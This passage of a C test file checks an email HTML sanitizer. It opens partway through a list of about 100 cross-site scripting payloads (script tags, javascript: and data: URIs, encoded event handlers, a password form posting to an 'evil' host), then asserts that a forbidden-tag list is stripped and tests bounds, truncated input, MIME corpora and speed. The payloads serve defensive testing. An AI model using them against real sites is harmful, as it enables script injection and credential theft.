    "<HEAD><META HTTP-EQUIV=\"CONTENT-TYPE\" CONTENT=\"text/html; charset=UTF-7\"> "
    "</HEAD>+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-",
    "<SCRIPT a=\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<SCRIPT =\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<SCRIPT a=\">\" '' SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<SCRIPT \"a='>'\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<SCRIPT a=`>` SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<SCRIPT a=\">'>\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<SCRIPT>document.write(\"<SCRI\");</SCRIPT>PT SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS</A>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"java&Tab;script&colon;alert&lpar;1&rpar;\">x</a>",
    "<a href=\"java&NewLine;script:alert(1)\">x</a>",
    "<a href=\"  javascript:alert(1)\">x</a>",
    "<a href=\"&#1;javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"JAVASCRIPT:alert(1)\">x</a>",
    "<a href=\"javascript&#58;alert(1)\">x</a>",
    "<a href=\"javascript&#0000058alert(1)\">x</a>",
    "<a href=\"javas&#99;ript:alert(1)\">x</a>",
    "<a href=\"&#x20;javascript:alert(1)\">x</a>",
    "<a href=\"java\\0script:alert(1)\">x</a>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form action=\"http://evil/steal\"><input name=p type=password><button "
    "formaction=javascript:alert(1)>go</button></form>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=\"alert(1)\">",
    "<audio src=x onerror=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<object data=\"javascript:alert(1)\">",
    "<embed src=\"javascript:alert(1)\">",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
    "<img src=\"x`<script>alert(1)</script>\"`>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<x onclick=alert(1)>click",
    "<div style=\"x:\\65xpression(alert(1))\">",
    "<div style=\"background:url(//evil/)\">",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">",
    "<p style=\"color:red;}</style><script>alert(1)</script>\">",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea></textarea><script>alert(1)</script>",
    "<xmp></xmp><img src=x onerror=alert(1)>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<a href=\"https://ok\">x</a ><script>alert(1)</script>",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<img src=\"data:text/html,<script>alert(1)</script>\">",
    "<a href=\"data:image/png;base64,AAA\">x</a>",
    "<base href=\"http://evil/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=http://evil/\">",
    "<link rel=import href=http://evil/>",
    "<style>@import url(http://evil/x.css);</style>",
    "<div style=\"background-image: image-set('http://evil/x.png' 1x)\">",
    "<img srcset=\"http://evil/x.png 1x\">",
    "<table background=\"http://evil/x.png\">",
    "<SCRIPT>alert(1)",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=1 href=1 onerror=\"javascript:alert(1)\"></img>",
    "<a href=\"http://x\" onclick=\"alert(1)\" target=_self rel=opener>x</a>",
    "<a href=javascript:alert(1)>x",
    "<svg><style>{font-family:'<iframe/onload=confirm(1)>'</style>",
    "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
    "<a href=\"&#x2F;&#x2F;evil\">x</a>",
    "<div style=\"font-family:'a' ; color: expression(alert(1))\">x</div>",
    "<div style=\"color:red;background:#fff url(javascript:alert(1))\">x</div>",
    "<div style=\"-moz-binding:url(http://evil/x.xml#x)\">x</div>",
    "<div style=\"width:e&#92;xpression(alert(1))\">x</div>",
    "<div style=\"color:rgb(1,2,3);width:calc(1px + expression(alert(1)))\">x</div>",
    "<svg><![CDATA[</svg><script>alert(1)</script>]]></svg>",
    "<math><a href=\"javascript:alert(1)\">x</a></math>",
    "<a href=\"javascript:alert(1)\" href=\"https://ok\">x</a>",
    "<img src=\"https://ok/x.png\" onload=\"alert(1)\" style=\"width:1px\">",
    "<td colspan=2 onmouseover=alert(1) style=color:red>x</td>",
    "<a href=\"https://ok/&quot;onmouseover=&quot;alert(1)\">x</a>",
    "<a href='https://ok/\"><script>alert(1)</script>'>x</a>",
    "<img alt=\"x\" title='\"><script>alert(1)</script>'>",
    "<template><script>alert(1)</script></template>",
    "<select><option><script>alert(1)</script></option></select>",
    "<a href=\"mailto:a@b?subject=&lt;script&gt;\">mail</a>",
    "<sCrIpT>alert(1)</ScRiPt>",
    "<script>alert(1)</script >",
    "<script>alert('</scr'+'ipt>')</script><b>after</b>",
    "<style>x</style <img src=x onerror=alert(1)>>text",
    "<iframe><iframe src=javascript:alert(1)></iframe></iframe>",
    "<plaintext><script>alert(1)</script>",
    "<a/href=\"javascript:alert(1)\">x</a>",
    "<img/src=\"x\"/onerror=\"alert(1)\">",
    "<img src=\"javascript:alert(1)\"/>",
    "<div/onmouseover='alert(1)'>x",
};

static bool contains_ci(const char *s, const char *needle)
{
	return hsi_contains_ci(s, strlen(s), needle);
}

static void test_xss(void)
{
	size_t nv = sizeof xss_vectors / sizeof xss_vectors[0];
	CHECK(nv >= 100, "only %zu vectors", nv);
	static const char *const forbidden[] = {
	    "<script", "<iframe", "<svg",   "<math",     "<object", "<embed",     "<form",
	    "<input",  "<meta",   "<link",  "<base",     "<style",  "<frame",     "<template",
	    "<button", "<video",  "<audio", "<textarea", "srcdoc",  "formaction", "<!--"};
	for (size_t i = 0; i < nv; i++) {
		const char *in = xss_vectors[i];
		unsigned f = 0;
		char *out = san(in, &f);
		CHECK(out != NULL, "vector %zu failed", i);
		if (!out)
			continue;
		check_output(out, strlen(out), in);
		for (size_t k = 0; k < sizeof forbidden / sizeof forbidden[0]; k++)
			CHECK(!contains_ci(out, forbidden[k]), "vector %zu: %s in %s", i,
			      forbidden[k], out);
		/* "javascript:" may stay only as text, where the vector has it as text. */
		if (strncmp(in, "javascript:", 11) != 0)
			CHECK(!contains_ci(out, "javascript:") && !contains_ci(out, "vbscript:"),
			      "vector %zu: javascript: in %s", i, out);
		CHECK(!contains_ci(out, "expression(") && !contains_ci(out, "url("),
		      "vector %zu: expression( or url( in %s", i, out);
		if (!(f & HTML_FOUND_REMOTE_IMAGES))
			check_idempotent(out, in);
		free(out);
	}
	/* And every vector once more with some text around, in a table cell. */
	for (size_t i = 0; i < nv; i++) {
		struct buf in = {0};
		buf_printf(&in, "<table><tr><td>before %s after</td></tr></table>", xss_vectors[i]);
		char *out = san(in.data, NULL);
		CHECK(out != NULL, "wrapped vector %zu failed", i);
		if (out)
			check_output(out, strlen(out), in.data);
		free(out);
		buf_free(&in);
	}
}

/* ---- bounds and errors ------------------------------------------------------- */

static void test_bounds(void)
{
	/* Nesting deeper than the stack: the extra tags are dropped, the output
	 * stays balanced. */
	struct buf in = {0};
	for (int i = 0; i < 1000; i++)
		buf_adds(&in, "<div>");
	buf_adds(&in, "deep");
	char *out = san(in.data, NULL);
	CHECK(out != NULL, "deep nesting failed");
	if (out) {
		check_output(out, strlen(out), "1000 divs");
		size_t opens = 0;
		for (const char *p = out; (p = strstr(p, "<div>")); p++)
			opens++;
		CHECK(opens == HTML_SANITIZE_MAX_DEPTH, "%zu divs kept", opens);
		check_idempotent(out, "1000 divs");
	}
	free(out);
	buf_reset(&in);

	/* 100000 nested svg: skipped with a counter, no stack. */
	for (int i = 0; i < 100000; i++)
		buf_adds(&in, "<svg>");
	buf_adds(&in, "x");
	out = san(in.data, NULL);
	CHECK(out && strcmp(out, "") == 0, "nested svg: %.40s", out ? out : "(error)");
	free(out);
	buf_reset(&in);

	/* The worst expansions stay under the promised bound. */
	static const char *const worst[] = {
	    "<a href=#>",        "<a>", "\"<", "<", "&", ">", "<br>", "<b>", "\xff", "&#0;",
	    "<img src=http://a>"};
	for (size_t k = 0; k < sizeof worst / sizeof worst[0]; k++) {
		buf_reset(&in);
		for (int i = 0; i < 10000; i++)
			buf_adds(&in, worst[k]);
		int rc = 0;
		out = san_n(in.data, in.len, NULL, &rc);
		CHECK(out && strlen(out) <=
		                 HTML_SANITIZE_OUT_FACTOR * in.len + HTML_SANITIZE_OUT_SLACK,
		      "%s x 10000: rc %d", worst[k], rc);
		if (out)
			check_output(out, strlen(out), worst[k]);
		free(out);
	}
	buf_free(&in);

	/* Errors leave the output as it was: a failing callback, a URL too
	 * big for the bound. */
	struct buf b = {0};
	buf_adds(&b, "keep");
	int rc = html_sanitize("<b>x<img src=cid:fail>", 22, &opts, &b, NULL);
	CHECK(rc == -EIO && b.len == 4 && strcmp(b.data, "keep") == 0, "callback error: %d %s", rc,
	      b.data);
	rc = html_sanitize("<img src=cid:big>", 17, &opts, &b, NULL);
	CHECK(rc == -E2BIG && b.len == 4 && strcmp(b.data, "keep") == 0, "bound: %d %s", rc,
	      b.data);
	/* Appends after what is there. */
	rc = html_sanitize("<b>x</b>", 8, &opts, &b, NULL);
	CHECK(rc == 0 && strcmp(b.data, "keep<b>x</b>") == 0, "append: %d %s", rc, b.data);
	buf_free(&b);
}

/* The input may end anywhere: every prefix of a message gives valid output. */
static void test_prefixes(void)
{
	static const char msg[] =
	    "<!DOCTYPE html><html><head><style>p{}</style><title>t</title></head><body>"
	    "<!-- c --><table><tr><td style=\"color:red\"><a href='https://e.com/?a=1&amp;b'>l</a>"
	    "<img src=\"cid:logo@x\" alt=\"a &quot;b&quot;\"><img src=http://r/x.gif></td></tr>"
	    "</table><svg><script>x</script></svg><p>&copy; &#x41;&#65 <b>b<i>i</b></i>"
	    "<script>alert(1)</script><xmp><b></xmp><textarea>t</textarea><![CDATA[x]]><? pi ?>"
	    "</ x><a href=javascript:alert(1)>j</a>\xc3\xa9\xff</body></html>";
	for (size_t k = 0; k <= sizeof msg - 1; k++) {
		char *out = san_n(msg, k, NULL, NULL);
		CHECK(out != NULL, "prefix %zu failed", k);
		if (out) {
			const char *why = hsi_check(out, strlen(out), CID_PREFIX);
			CHECK(why == NULL, "prefix %zu: %s: %s", k, why, out);
		}
		free(out);
	}
}

/* ---- the MIME corpora -------------------------------------------------------- */

static size_t corpus_files, corpus_parts;

static void corpus_part(const struct mime_message *m, const struct mime_part *p, const char *path)
{
	for (; p; p = p->next) {
		if (p->children)
			corpus_part(m, p->children, path);
		if (p->message)
			corpus_part(m, p->message, path);
		if (!mime_part_is(p, "text", "html"))
			continue;
		struct buf raw = {0}, utf8 = {0}, out = {0};
		if (mime_decode_body(m, p, &raw) == 0 &&
		    mime_to_utf8(mime_part_param(p, "charset"), raw.data ? raw.data : "", raw.len,
		                 &utf8) == 0) {
			unsigned f = 0;
			int rc =
			    html_sanitize(utf8.data ? utf8.data : "", utf8.len, &opts, &out, &f);
			CHECK(rc == 0, "%s: html_sanitize %d", path, rc);
			if (rc == 0) {
				const char *why =
				    hsi_check(out.data ? out.data : "", out.len, CID_PREFIX);
				CHECK(why == NULL, "%s: %s", path, why);
				corpus_parts++;
			}
		}
		buf_free(&raw);
		buf_free(&utf8);
		buf_free(&out);
	}
}

static int corpus_file(const char *path, const struct stat *sb, int type, struct FTW *ftw)
{
	if (type != FTW_F || sb->st_size > (16 << 20))
		return 0;
	FILE *fp = fopen(path, "rb");
	if (!fp)
		return 0;
	char *data = malloc((size_t)sb->st_size + 1);
	size_t n = data ? fread(data, 1, (size_t)sb->st_size, fp) : 0;
	fclose(fp);
	if (!data)
		return 0;
	/* Only messages that say they have HTML. */
	data[n] = '\0';
	if (!hsi_contains_ci(data, n, "text/html")) {
		free(data);
		return 0;
	}
	struct mime_message *m = NULL;
	if (mime_parse(data, n, &m) == 0) {
		corpus_files++;
		corpus_part(m, m->root, path);
		mime_free(&m);
	}
	free(data);
	return 0;
}

static void test_corpus(void)
{
	const char *env = getenv("TERN_SHARED");
	char dir[1024];
	static const char *const sub[] = {"mime", "dkim", "dmarc"};
	bool any = false;
	for (size_t i = 0; i < 3; i++) {
		snprintf(dir, sizeof dir, "%s/testdata/%s", env ? env : "../shared", sub[i]);
		struct stat st;
		if (stat(dir, &st) != 0)
			continue;
		any = true;
		nftw(dir, corpus_file, 16, FTW_PHYS);
	}
	if (!any) {
		printf("SKIPPED: test_html_sanitize: the MIME corpora (not in %s/testdata; set "
		       "TERN_SHARED)\n",
		       env ? env : "../shared");
		return;
	}
	printf("corpus: %zu text/html parts in %zu messages\n", corpus_parts, corpus_files);
	CHECK(corpus_parts > 0, "no text/html part found in the corpora");
}

/* ---- throughput -------------------------------------------------------------- */

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void bench(void)
{
	/* A large newsletter-shaped mail: layout tables with styles, links,
	 * images, entities and paragraphs of text. */
	static const char block[] =
	    "<table width=\"100%\" cellpadding=\"0\" cellspacing=\"0\" border=\"0\" "
	    "style=\"max-width:600px;background-color:#ffffff\"><tr><td align=\"left\" "
	    "style=\"padding:12px 24px;font-family:Helvetica,Arial,sans-serif;font-size:14px;"
	    "line-height:20px;color:#333333\"><p style=\"margin:0 0 12px 0\">Dear customer,&nbsp;"
	    "this week&rsquo;s offers are below &mdash; don&#39;t miss them. Lorem ipsum dolor sit "
	    "amet, consectetur adipiscing elit, sed do eiusmod tempor incididunt ut labore et "
	    "dolore "
	    "magna aliqua. Ut enim ad minim veniam, quis nostrud exercitation ullamco laboris.</p>"
	    "<a href=\"https://shop.example.com/offer?id=12345&amp;utm_source=mail\" "
	    "style=\"color:#0066cc;text-decoration:underline\" class=\"link\">See the offer</a>"
	    "<br><img src=\"https://cdn.example.com/img/banner-12345.jpg\" width=\"552\" "
	    "height=\"200\" alt=\"Banner\" style=\"display:block;border:0\"><!--[if mso]><p>x</p>"
	    "<![endif]--></td></tr></table>\n";
	size_t target = 16u << 20;
	struct buf in = {0};
	while (in.len < target)
		buf_add(&in, block, sizeof block - 1);
	struct buf out = {0};
	double best = 1e9;
	for (int r = 0; r < 3; r++) {
		buf_reset(&out);
		double t0 = now();
		int rc = html_sanitize(in.data, in.len, &opts, &out, NULL);
		double t = now() - t0;
		CHECK(rc == 0, "bench: %d", rc);
		if (t < best)
			best = t;
	}
	printf(
	    "bench: html_sanitize %.1f MB newsletter HTML in %.3f s: %.0f MB/s (output %.1f MB)\n",
	    (double)in.len / 1e6, best, (double)in.len / 1e6 / best, (double)out.len / 1e6);
	const char *why = hsi_check(out.data, out.len, CID_PREFIX);
	CHECK(why == NULL, "bench output: %s", why);
	buf_free(&in);
	buf_free(&out);
}

int main(void)
{
	test_tables();
	test_text_and_entities();
	test_markup();
	test_mail_shapes();
	test_links();
	test_images();
	test_style();
	test_xss();
	test_bounds();
	test_prefixes();
	test_corpus();
	bench();
	return check_report("test_html_sanitize");
}
